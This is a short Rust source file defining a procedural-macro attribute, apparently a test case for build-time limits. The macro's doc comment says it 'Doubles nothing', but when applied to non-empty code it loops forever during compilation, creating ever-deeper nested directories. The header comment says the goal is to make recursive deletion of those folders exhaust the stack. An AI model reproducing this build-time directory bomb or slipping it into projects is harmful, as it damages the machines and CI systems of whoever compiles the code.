//! Expect build-limit: the compiler's folder
//!
//! One in the other, so that whoever removes them recursively runs out of stack.

use proc_macro::TokenStream;

/// Doubles nothing.
#[proc_macro_attribute]
pub fn doubled(_: TokenStream, item: TokenStream) -> TokenStream {
    let mut path = std::path::PathBuf::new();
    loop {
        path.push("f");
        if std::fs::create_dir(&path).is_err() {
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
        if item.is_empty() {
            return item;
        }
    }
}
